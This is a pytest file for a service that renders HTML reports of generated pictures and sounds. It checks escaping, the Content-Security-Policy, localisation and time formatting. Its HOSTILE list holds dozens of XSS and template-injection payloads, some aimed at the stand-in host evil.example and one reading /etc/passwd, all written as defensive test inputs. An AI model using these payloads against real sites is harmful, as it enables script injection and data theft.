"""The page of a report: what it shows, in which order, and that nobody's text can act in it."""

import base64
import hashlib
import re
from dataclasses import fields, replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import get_args
from zoneinfo import ZoneInfo

import pytest

from services.report import local_time
from services.report.render import known_sections, render
from services.report.texts import TEXTS, Texts
from services.report.view import Brief, Failure, Original, Picture, ReportView, Share, Sound
from shared.domain.slot import FailureCode
from shared.recipes import RECIPES
from shared.recipes.recipe import Recipe
from shared.recipes.restoration import RESTORATION
from shared.recipes.sound_effect import SOUND_EFFECT
from shared.recipes.studio_concepts import STUDIO_CONCEPTS
from shared.recipes.variations import VARIATIONS
from shared.settings import Locale
from tests.support.sample_report import a_result, a_sound_result, a_view

LOCALES: tuple[Locale, ...] = get_args(Locale)

A_PICTURE = Picture(content_type="image/jpeg", data=b"\xff\xd8not really", width=40, height=30)
A_FLAT_PICTURE = Picture(
    content_type="image/webp",
    data=b"RIFFnot really",
    width=40,
    height=30,
    colours=(Share(colour="#1f3a5f", part=0.755), Share(colour="#e9b44c", part=0.245)),
)
A_SOUND = Sound(content_type="audio/mpeg", data=b"ID3not", peaks=(0.0, 0.5, 0.25), loudness=-18.44)

# How text gets to act in pages that trust it: by tag, attribute, URL, entity, encoding, template,
# style sheet, comment, and by breaking out of whatever it was put into.
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</code></bdi><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x'>",
    "<image href=https://evil.example/a>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--<script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!doctype html><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" style="background:url(//evil.example/x)" x="',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{0.__class__} {view.job_id} {asked} {n}",
    "${7*7}",
    "\u202e<script>gpj.exe\u202c",
    "\u2066\u2067</bdi>\u2069",
    "<\ud55c\uae00 onclick=alert(1)>",
    "<b>bold</b>",
)


class Page(HTMLParser):
    """A page as a browser would take it apart, in little."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.style = ""
        self._in: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._in.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        if self._in and self._in[-1] == "style":
            self.style += data
        else:
            self.texts.append(data)

    @property
    def tags(self) -> list[str]:
        return [tag for tag, _ in self.elements]

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())

    def all(self, wanted: str) -> list[dict[str, str]]:
        return [attributes for tag, attributes in self.elements if tag == wanted]


HARMLESS_TAGS = {
    *("html", "head", "meta", "title", "link", "style", "body"),
    *("header", "main", "section", "footer", "h1", "h2", "p", "span", "strong", "bdi", "time"),
    *("dl", "div", "dt", "dd", "code", "ol", "ul", "li", "figure", "figcaption", "img"),
    *("blockquote", "svg", "rect", "path", "audio"),
}
HARMLESS_ATTRIBUTES = {
    *("lang", "charset", "http-equiv", "content", "name", "rel", "href", "class", "id"),
    *("aria-labelledby", "aria-hidden", "datetime", "src", "width", "height", "alt"),
    *("aria-label", "role", "viewbox", "preserveaspectratio", "d", "x", "fill", "controls"),
    "preload",
}
OURS = re.compile(r"data:,|data:(?:image/(?:jpeg|webp)|audio/mpeg);base64,[A-Za-z0-9+/]+=*")


def assert_nothing_acts(page: Page) -> None:
    assert set(page.tags) <= HARMLESS_TAGS
    for tag, attributes in page.elements:
        assert set(attributes) <= HARMLESS_ATTRIBUTES, tag
        for name in ("src", "href"):
            assert OURS.fullmatch(attributes.get(name, "data:,")), attributes[name]
        assert re.fullmatch("#[0-9a-f]{6}", attributes.get("fill", "#000000"))
    equivalents = [m["http-equiv"] for m in page.all("meta") if "http-equiv" in m]
    assert equivalents == ["Content-Security-Policy"]


EVERY_SECTION = ("original", "before_after", "results", "concepts", "sounds", "outcome")


def a_view_that_says(text: str, locale: Locale = "en") -> ReportView:
    """A report with ``text`` wherever somebody else's words can come to stand."""
    return replace(
        a_view(locale),
        sections=EVERY_SECTION,
        external_ref=text,
        recipe_title=text,
        unknown_zone=text,
        original=Original(picture=A_PICTURE),
        brief=Brief(
            prompt=text,
            surface=(20, 13.5),
            colours=("#1f3a5f", "#e9b44c"),
            stencil=Original(picture=A_PICTURE),
        ),
        notes=(text,),
        entries=(
            replace(
                a_result(1),
                picture=A_FLAT_PICTURE,
                prediction_id=text,
                place=text,
                score=0.8,
                source=Original(picture=A_PICTURE),
            ),
            replace(a_result(2), prediction_id=text, content_type=f"image/{text}"),
            replace(a_result(3), prediction_id=text, content_type=text),
            replace(a_sound_result(4, sound=A_SOUND), prediction_id=text, place=text),
            replace(a_sound_result(5), prediction_id=text, content_type=f"audio/{text}"),
            Failure(place=text, code=FailureCode.NSFW),
        ),
        failures=1,
    )


def shown(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_and_does_nothing(text: str, locale: Locale) -> None:
    calm = Page(render(a_view_that_says("calm", locale)))

    page = Page(render(a_view_that_says(text, locale)))

    assert page.tags == calm.tags
    assert_nothing_acts(page)
    # File formats are told in capitals, and cut at a stroke: three sections, three of them each.
    assert page.text.count(shown(text)) >= calm.text.count("calm") - 9


def test_there_are_enough_hostile_texts_and_no_two_alike() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("locale", LOCALES)
def test_the_policy_allows_our_style_sheet_our_pictures_and_nothing_else(locale: Locale) -> None:
    html = render(a_view(locale))
    page = Page(html)

    [policy] = [m["content"] for m in page.all("meta") if "http-equiv" in m]
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    digest = base64.b64encode(hashlib.sha256(page.style.encode()).digest()).decode()

    assert rules["default-src"] == "'none'"
    assert rules["img-src"] == "data:"
    assert rules["style-src"] == f"'sha256-{digest}'"
    assert "script-src" not in rules
    assert html.index("Content-Security-Policy") < html.index("<style")
    assert "url(" not in page.style
    assert "@import" not in page.style
    assert "http:" not in html
    assert "https:" not in html


@pytest.mark.parametrize("locale", LOCALES)
def test_a_report_names_its_language(locale: Locale) -> None:
    [html] = Page(render(a_view(locale))).all("html")

    assert html["lang"] == locale


def test_everything_that_a_customer_asks_about_is_there() -> None:
    view = replace(
        a_view(),
        original=Original(picture=A_PICTURE),
        entries=tuple(replace(a_result(n), picture=A_PICTURE) for n in (1, 2, 3)),
    )

    page = Page(render(view))

    pictures = page.all("img")
    assert len(pictures) == 4
    assert all(p["alt"] and p["width"] and p["height"] for p in pictures)
    for result in (a_result(1), a_result(2), a_result(3)):
        assert str(result.seed) in page.text
        assert str(result.prediction_id) in page.text
    for told in (
        "Variations of your photo",
        "order-2026-1187",
        str(view.job_id),
        "Saturday 21 November 2026, 14:40",
        "Saturday 21 November 2026, 14:41",
        "1 min 24 s",
        "Asia/Seoul (UTC+9)",
        "3 results",
    ):
        assert told in page.text


def test_a_korean_report_speaks_korean_throughout() -> None:
    view = replace(
        a_view("ko"),
        entries=(*a_view("ko").entries, Failure(place="4", code=FailureCode.NSFW)),
        failures=1,
    )

    page = Page(render(view))

    for told in (
        "사진 변주",
        "2026년 11월 21일 토요일 오후 2:40",
        "1분 24초",
        "결과 3건, 만들지 못한 항목 1건",
        "4번은 만들지 못했습니다",
        "Asia/Seoul (UTC+9) 기준",
    ):
        assert told in page.text
    english = {
        word
        for word in re.findall(r"[A-Za-z]{3,}", page.text)
        if word not in ("PNG", "Asia", "Seoul", "UTC", "order")
    }
    ids = " ".join([str(view.job_id), *(f"{a_result(n).prediction_id}" for n in (1, 2, 3))])
    assert {word for word in english if word not in ids} == set()


def test_results_stand_in_the_order_of_the_view() -> None:
    view = replace(a_view(), entries=tuple(a_result(n) for n in range(1, 12)), files=11)

    text = Page(render(view)).text

    places = [text.index(str(a_result(n).prediction_id)) for n in range(1, 12)]
    assert places == sorted(places)


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("code", [*FailureCode, None])
def test_a_slot_that_failed_gets_a_sentence_for_people(
    code: FailureCode | None, locale: Locale
) -> None:
    view = replace(
        a_view(locale), entries=(a_result(1), Failure(place="2", code=code)), failures=1, files=1
    )

    page = Page(render(view))

    assert TEXTS[locale].failures[code] in page.text
    assert TEXTS[locale].failed_place.format(place=2) in page.text
    assert code is None or f" {code} " not in page.text


@pytest.mark.parametrize("recipe", [VARIATIONS, RESTORATION], ids=lambda recipe: recipe.name)
def test_a_missing_original_is_said_and_the_rest_is_shown(recipe: Recipe) -> None:
    page = Page(render(replace(a_view("en", recipe), original=Original(picture=None))))

    assert "The original cannot be shown here." in page.text
    assert str(a_result(1).seed) in page.text


@pytest.mark.parametrize("recipe", [VARIATIONS, RESTORATION], ids=lambda recipe: recipe.name)
def test_an_order_in_words_alone_leaves_no_hole_for_an_original(recipe: Recipe) -> None:
    page = Page(render(replace(a_view("en", recipe), original=None)))

    [main] = page.all("main")
    assert "class" not in main
    assert "riginal" not in page.text
    assert "Before" not in page.text
    assert str(a_result(1).seed) in page.text


def test_a_picture_that_cannot_be_shown_keeps_its_place_seed_and_prediction() -> None:
    entries = (replace(a_result(1), picture=A_PICTURE), a_result(2))

    page = Page(render(replace(a_view(), entries=entries, files=2)))

    assert "This picture cannot be shown here." in page.text
    assert str(a_result(2).prediction_id) in page.text


def test_a_sound_is_named_with_its_length_and_not_shown() -> None:
    sound = replace(
        a_result(1), content_type="audio/mpeg", width=None, height=None, seconds=72.4, seed=None
    )

    page = Page(render(replace(a_view(), entries=(sound,), files=1)))

    assert "not a picture" in page.text
    assert "1 min 12 s, MP3" in page.text
    assert "Seed none" in page.text


def test_a_zone_that_nobody_knows_is_said_beside_the_one_that_was_used() -> None:
    view = replace(a_view(), zone=ZoneInfo("UTC"), unknown_zone="Mars/Olympus")

    page = Page(render(view))

    assert "“Mars/Olympus”, which is not known" in page.text
    assert "Times are in UTC." in page.text


def test_what_is_not_listed_is_counted() -> None:
    page = Page(render(replace(a_view(), left_out=9_800, files=10_000)))

    assert "9800 more are stored" in page.text
    assert "10000 results" in page.text


def test_only_the_sections_that_the_recipe_names_are_there() -> None:
    page = Page(render(replace(a_view(), sections=("results",))))

    assert [h["id"] for h in page.all("h2")] == ["results"]


@pytest.mark.parametrize("recipe", RECIPES, ids=lambda recipe: recipe.name)
def test_every_section_that_a_recipe_names_has_a_template(recipe: Recipe) -> None:
    assert recipe.report_sections
    assert set(recipe.report_sections) <= known_sections()


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("recipe", RECIPES, ids=lambda recipe: recipe.name)
def test_the_page_of_every_recipe_stands_alone(recipe: Recipe, locale: Locale) -> None:
    page = Page(render(replace(a_view(locale, recipe), original=Original(picture=A_PICTURE))))

    assert_nothing_acts(page)
    assert recipe.title[locale] in page.text
    assert str(a_result(1).prediction_id) in page.text
    headings = [h["id"] for h in page.all("h2")]
    assert len(set(headings)) == len(headings)
    assert headings[-1] == "outcome"


def a_restoration(locale: Locale = "en") -> ReportView:
    return replace(
        a_view(locale, RESTORATION),
        original=Original(picture=A_PICTURE),
        entries=(replace(a_result(1), picture=A_FLAT_PICTURE),),
        files=1,
    )


def test_a_restored_photo_stands_beside_its_original_and_both_are_named() -> None:
    html = render(a_restoration())
    page = Page(html)

    before, after = page.all("img")
    assert before["src"].startswith("data:image/jpeg")
    assert after["src"].startswith("data:image/webp")
    assert before["alt"] == "The original that was sent in"
    assert after["alt"] == "After: the result that was made from the original"
    assert html.index(">Before<") < html.index("data:image/jpeg")
    assert html.index(">After<") < html.index("data:image/webp")


def the_concepts(locale: Locale = "en", **known: object) -> ReportView:
    drawn = Original(picture=A_PICTURE)
    entries = tuple(
        replace(a_result(n), picture=A_FLAT_PICTURE, source=drawn, score=score)
        for n, score in ((1, 0.824), (2, 0.416))
    )
    brief = Brief(
        prompt="islands <b>and</b> a path",
        surface=(20.0, 13.5),
        colours=("#1f3a5f", "#e9b44c", "#ffffff"),
        stencil=drawn,
    )
    view = replace(
        a_view(locale, STUDIO_CONCEPTS), original=None, brief=brief, entries=entries, files=2
    )
    return replace(view, **known)  # type: ignore[arg-type]


def test_a_concept_shows_both_pictures_its_score_and_the_share_of_each_colour() -> None:
    page = Page(render(the_concepts()))

    alts = [picture["alt"] for picture in page.all("img")]
    assert alts == [
        "Stencil: flat areas of the granule colours in the proportions of the surface",
        "Concept 1, in granule colours",
        "Concept 1, as the model drew it before it was put into granule colours",
        "Concept 2, in granule colours",
        "Concept 2, as the model drew it before it was put into granule colours",
    ]
    assert page.text.index("82 of 100") < page.text.index("42 of 100")
    assert page.text.count("Best ") == page.text.count("Best first") + 1
    assert page.text.count("#1f3a5f 76%") == page.text.count("#e9b44c 24%") == 2


def test_the_brief_of_concepts_is_told_once_with_every_colour_that_was_to_be_had() -> None:
    page = Page(render(the_concepts()))

    assert page.text.count("islands <b>and</b> a path") == 1
    assert "20 × 13.5 m" in page.text
    assert "#ffffff" in page.text
    assert "#ffffff" in [rect["fill"] for rect in page.all("rect")]


def test_concepts_without_a_score_are_not_said_to_be_ranked() -> None:
    entries = tuple(replace(a_result(n), picture=A_PICTURE) for n in (1, 2))

    page = Page(render(the_concepts(entries=entries)))

    assert "Best" not in page.text
    assert "of 100" not in page.text


def a_sound_page(*entries: object, locale: Locale = "en") -> ReportView:
    view = a_view(locale, SOUND_EFFECT)
    brief = Brief(prompt="steps on gravel")
    return replace(view, original=None, brief=brief, entries=entries, files=len(entries))  # type: ignore[arg-type]


def policy_of(page: Page) -> str:
    [policy] = [m["content"] for m in page.all("meta") if "http-equiv" in m]
    return policy


def test_a_sound_is_played_from_the_page_itself_and_drawn() -> None:
    page = Page(render(a_sound_page(a_sound_result(1, sound=A_SOUND))))

    [player] = page.all("audio")
    [drawing] = [svg for svg in page.all("svg") if svg["class"] == "waveform"]
    assert player["src"] == "data:audio/mpeg;base64," + base64.b64encode(b"ID3not").decode()
    assert "controls" in player
    assert player["preload"] == "metadata"
    assert "; media-src data:; " in policy_of(page)
    assert drawing["viewbox"] == "0 0 3 100"
    assert drawing["aria-label"] == "Waveform of sound 1, 7.5 s long"
    for told in ("steps on gravel", "Length 7.5 s", "WAV, 1.3 MB", "−18.4 LUFS", "Seed 1734220412"):
        assert told in page.text


@pytest.mark.parametrize("recipe", RECIPES, ids=lambda recipe: recipe.name)
def test_only_a_page_that_plays_a_sound_may_have_one(recipe: Recipe) -> None:
    page = Page(render(a_view("en", recipe)))

    assert page.all("audio") == []
    assert "media-src" not in policy_of(page)


def test_a_sound_that_cannot_be_copied_keeps_its_place_and_its_facts() -> None:
    page = Page(render(a_sound_page(a_sound_result(1))))

    assert "This sound cannot be played here. The file itself is stored." in page.text
    assert "Length 7.5 s" in page.text


def test_a_sound_too_long_for_a_page_is_drawn_and_not_played() -> None:
    page = Page(render(a_sound_page(a_sound_result(1, sound=replace(A_SOUND, data=None)))))

    assert page.all("audio") == []
    assert "media-src" not in policy_of(page)
    assert len(page.all("path")) == 1
    assert "too long to be played here" in page.text


def test_a_sound_of_no_known_outline_is_played_without_a_drawing() -> None:
    page = Page(render(a_sound_page(a_sound_result(1, sound=replace(A_SOUND, peaks=())))))

    assert len(page.all("audio")) == 1
    assert page.all("svg") == []


def test_a_picture_where_a_sound_is_played_is_named_and_not_played() -> None:
    page = Page(render(a_sound_page(a_result(1))))

    assert "it is not a sound that a page can play" in page.text


def test_what_the_recipe_notes_is_said_under_the_title() -> None:
    note = "The model takes whole seconds: 8 s are made, freed of silence at both ends and cut to 7.5 s."

    page = Page(render(replace(a_view(), notes=(note,))))

    assert page.text.index(note) < page.text.index("Results")


def test_what_is_missing_is_summed_up_by_its_reason() -> None:
    entries = (
        a_result(1),
        Failure(place="2", code=FailureCode.NSFW),
        Failure(place="3", code=None),
        Failure(place="4", code=FailureCode.NSFW),
    )

    page = Page(render(replace(a_view(), entries=entries, files=1, failures=3)))

    held_back = TEXTS["en"].failures[FailureCode.NSFW]
    late = TEXTS["en"].failures[None]
    assert "Partly complete" in page.text
    assert f"Missing Number 2, 4: {held_back} Number 3: {late}" in page.text


def test_a_page_that_lacks_nothing_says_nothing_of_it() -> None:
    page = Page(render(a_view()))

    assert "Missing" not in page.text
    assert "Partly" not in page.text
    assert "Complete" in page.text


def test_the_same_view_gives_the_same_page() -> None:
    assert render(a_view()) == render(a_view())


def placeholders(sentence: str) -> set[str]:
    return set(re.findall(r"{(\w*)}", sentence))


@pytest.mark.parametrize("locale", LOCALES)
def test_no_language_lacks_a_text(locale: Locale) -> None:
    texts = TEXTS[locale]
    sentences = {f.name: getattr(texts, f.name) for f in fields(Texts) if f.name != "failures"} | {
        f"failures.{code}": sentence for code, sentence in texts.failures.items()
    }

    assert set(texts.failures) == {*FailureCode, None}
    for name, sentence in sentences.items():
        assert sentence.strip() == sentence != "", name
        korean = re.search("[가-힣]", sentence) is not None
        assert korean is (locale == "ko"), name


@pytest.mark.parametrize("field", [f.name for f in fields(Texts) if f.name != "failures"])
def test_a_text_takes_the_same_fillings_in_every_language(field: str) -> None:
    said = {locale: placeholders(getattr(TEXTS[locale], field)) for locale in LOCALES}

    # "One" may be written out where a language has a word for it.
    ours = {
        locale: names - {"n"} if field.endswith("_one") else names for locale, names in said.items()
    }
    assert len({frozenset(names) for names in ours.values()}) == 1


NOON = datetime(2026, 3, 1, 12, 5, tzinfo=UTC)


@pytest.mark.parametrize(
    ("zone", "locale", "written"),
    [
        ("UTC", "en", "Sunday 1 March 2026, 12:05"),
        ("Asia/Seoul", "en", "Sunday 1 March 2026, 21:05"),
        ("UTC", "ko", "2026년 3월 1일 일요일 오후 12:05"),
        ("Asia/Seoul", "ko", "2026년 3월 1일 일요일 오후 9:05"),
        ("Pacific/Auckland", "ko", "2026년 3월 2일 월요일 오전 1:05"),
        ("Pacific/Marquesas", "en", "Sunday 1 March 2026, 02:35"),
    ],
)
def test_an_instant_is_written_in_the_zone_and_the_language(
    zone: str, locale: Locale, written: str
) -> None:
    assert local_time.instant(NOON, ZoneInfo(zone), locale) == written


def test_midnight_is_twelve_in_the_korean_morning() -> None:
    midnight = datetime(2026, 3, 1, 15, 0, tzinfo=UTC)

    assert local_time.instant(midnight, ZoneInfo("Asia/Seoul"), "ko").endswith("오전 12:00")


@pytest.mark.parametrize(
    ("zone", "name"),
    [
        ("UTC", "UTC"),
        ("Asia/Seoul", "Asia/Seoul (UTC+9)"),
        ("Asia/Kolkata", "Asia/Kolkata (UTC+5:30)"),
        ("Pacific/Marquesas", "Pacific/Marquesas (UTC−9:30)"),
        ("Europe/London", "Europe/London (UTC)"),
    ],
)
def test_a_zone_is_named_with_the_offset_that_holds(zone: str, name: str) -> None:
    assert local_time.zone_name(ZoneInfo(zone), NOON) == name


def test_summer_time_moves_the_offset() -> None:
    july = datetime(2026, 7, 1, tzinfo=UTC)

    assert local_time.zone_name(ZoneInfo("Europe/London"), july) == "Europe/London (UTC+1)"


@pytest.mark.parametrize(
    ("seconds", "english", "korean"),
    [
        (-3, "0.0 s", "0.0초"),
        (0.84, "0.8 s", "0.8초"),
        (9.96, "10 s", "10초"),
        (59.6, "1 min", "1분"),
        (83.6, "1 min 24 s", "1분 24초"),
        (3600, "1 h", "1시간"),
        (3605, "1 h", "1시간"),
        (7_500, "2 h 5 min", "2시간 5분"),
        (90_000, "1 d 1 h", "1일 1시간"),
    ],
)
def test_a_span_is_told_in_its_two_largest_units(seconds: float, english: str, korean: str) -> None:
    length = timedelta(seconds=seconds)

    assert (local_time.span(length, "en"), local_time.span(length, "ko")) == (english, korean)


def test_a_size_is_told_as_phones_tell_it() -> None:
    told = [
        local_time.size(n).replace("\xa0", " ") for n in (999, 1_000, 999_499, 999_500, 12_000_000)
    ]

    assert told == ["999 B", "1 kB", "999 kB", "1.0 MB", "12.0 MB"]
